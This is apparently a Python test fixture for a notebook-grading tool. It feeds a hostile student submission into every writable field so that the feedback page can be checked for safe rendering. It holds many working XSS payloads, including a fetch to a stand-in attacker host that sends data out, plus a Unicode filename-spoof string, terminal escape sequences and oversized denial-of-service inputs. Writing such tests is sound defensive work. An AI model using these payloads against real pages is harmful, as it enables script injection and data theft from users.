"""A submission that tries everything that could act in a reader's browser, wherever a student can write."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.plugins.pieces import b64, png

from chainrule.model import ExerciseResult, Note, Outcome, Status

ACT = "document.title='taken';alert(1);fetch('https://evil.example/'+document.title)"
HOSTILE = (
    f"<script>{ACT}</script>"
    f'"><img src="https://evil.example/i.png" onerror="{ACT}">'
    f'\'><svg onload="{ACT}"></svg>'
    f'</pre></textarea></title></style><iframe srcdoc="<script>parent.{ACT}</script>"></iframe>'
    f'<a href="javascript:{ACT}" autofocus onfocus="{ACT}">click</a>'
    '<link rel="stylesheet" href="https://evil.example/s.css"><base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "<style>@import 'https://evil.example/i.css'; * { display: none } a { background: url(https://evil.example/b) }"
    "</style>"
    f'<math href="javascript:{ACT}"><mtext><img src="x" onerror="{ACT}"></mtext></math>'
    f'<form action="https://evil.example/"><button formaction="javascript:{ACT}">go</button></form>'
    f'<object data="data:text/html,<script>{ACT}</script>"></object>'
    "{{ 7*7 }}{% raw %}<!--<b><i><table><details><"
)
MARKDOWN = (
    f"[click](javascript:{ACT}) ![pic](https://evil.example/m.png) <https://evil.example/> "
    f"$\\href{{javascript:{ACT}}}{{x}}$\n\n# </h1>{HOSTILE}\n\n- {HOSTILE}\n\n```html\n{HOSTILE}\n```\n\n"
    f"| {HOSTILE} |\n|---|\n| x |\n\n[ref]\n\n[ref]: javascript:{ACT}\n\n"
)
OVERRIDE = "user\u202egnp.exe\u2066 hidden\u2069"
OSC8 = f"\x1b]8;;javascript:{ACT}\x1b\\link\x1b]8;;\x1b\\\x1b[31mred\x1b[0m"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{ACT}"><script>{ACT}</script>'
    f'<a href="javascript:{ACT}"><circle r="9"/></a><image href="https://evil.example/s.png"/></svg>'
)


def display(data: dict[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}}


def hostile_outputs() -> list[dict[str, Any]]:
    svg = base64.b64encode(SVG.encode()).decode()
    return [
        {"output_type": "stream", "name": "stdout", "text": HOSTILE + OSC8 + OVERRIDE},
        {"output_type": "stream", "name": "stderr", "text": "x<b>" * 200_000},
        display({"text/html": HOSTILE, "text/plain": HOSTILE}),
        display({"application/javascript": ACT}),
        display({"image/svg+xml": SVG}),
        display({"image/png": svg}),
        display({"image/png": b64(png(1, 30_000))}),
        display({"image/png": b64(png() + b"\0" * (10 << 20))}),
        display({"image/png": f'AAAA" onerror="{ACT}', "text/plain": OSC8}),
        display({"text/markdown": HOSTILE, "text/latex": r"$\href{javascript:1}{x}$"}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": HOSTILE}, HOSTILE: "mime"}),
        {"output_type": "error", "ename": HOSTILE, "evalue": HOSTILE, "traceback": [HOSTILE, OSC8]},
    ]


def hostile_results() -> list[ExerciseResult]:
    failed = Outcome(
        HOSTILE, HOSTILE, HOSTILE, 0, 4, Status.FAILED, message=HOSTILE, detail=HOSTILE + OSC8, misconception=None
    )
    named = Outcome("f", "b", HOSTILE, 0, 4, Status.CRASHED, message=OSC8, misconception=HOSTILE + "!")
    return [
        ExerciseResult(HOSTILE, "test_f", 4, (failed,)),
        ExerciseResult("f", "test_g", 4, (named, failed)),
    ]


def hostile_page(feedback_in: Callable[..., str], cell: Callable[..., dict[str, Any]], folder: Path) -> str:
    """The page of a submission with all of it in every place that a student can write to."""
    cells = [
        cell("markdown", f"# {HOSTILE}\n## {HOSTILE}"),
        cell("code", HOSTILE, "f", solution=True, outputs=hostile_outputs()),
        cell("code", "check", "test_f", points=4, outputs=hostile_outputs()),
        cell("code", "check", "test_g", points=4),
        cell("code", f"assert x\n{HOSTILE}", "foreign", points=4, outputs=hostile_outputs()),
        cell("markdown", MARKDOWN + HOSTILE + OSC8 + OVERRIDE, "m1", points=6, solution=True),
        cell("code", HOSTILE, "m2", points=6, solution=True, outputs=hostile_outputs()),
        cell("code", HOSTILE, outputs=hostile_outputs()),
    ]
    return feedback_in(
        folder,
        cells,
        scores={name: {"auto_score": 0} for name in ("test_f", "test_g", "foreign")},
        results=hostile_results(),
        notes=[Note("timeout", HOSTILE, HOSTILE), Note("restored", HOSTILE, "test_f")],
        comments={"m1": HOSTILE, "f": HOSTILE},
        names=(HOSTILE, OSC8),
        student='<img src=x onerror="1">&',
        notebook='"><img src=x onerror="alert(1)">',
    )
